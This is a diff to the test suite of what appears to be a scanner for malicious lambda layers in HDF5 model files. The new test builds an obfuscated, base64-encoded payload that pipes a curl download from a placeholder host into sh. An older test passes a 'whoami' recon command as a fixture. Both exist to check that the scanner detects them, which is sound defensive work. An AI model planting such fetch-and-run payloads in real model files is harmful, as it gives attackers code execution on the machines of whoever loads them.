@@ -235,3 +235,11 @@ def test_payload_in_defaults_closure_or_arguments_is_assessed() -> None:
     layer = lambda_layer({"class_name": "__lambda__", "config": {"code": b64, "defaults": None, "closure": None}})
     layer["config"]["arguments"] = {"cmd": "whoami"}
     assert only(scan(h5_bytes(sequential(layer))), "MH301").category is Category.RECON
+
+
+def test_base64_payload_decoded_by_the_bytecode_is_assessed() -> None:
+    hidden = base64.b64encode(b"import os\nos.system('curl -s https://malhug-sentinel.invalid/x | sh')").decode()
+    source = f"exec(__import__('base64').b64decode('{hidden}')) or x"
+    f = only(scan(h5_bytes(sequential(lambda_layer([lambda_b64(source), None, None])))), "MH301")
+    assert f.category is Category.DOWNLOAD_EXEC
+    assert "curl -s https://malhug-sentinel.invalid/x | sh" in f.evidence
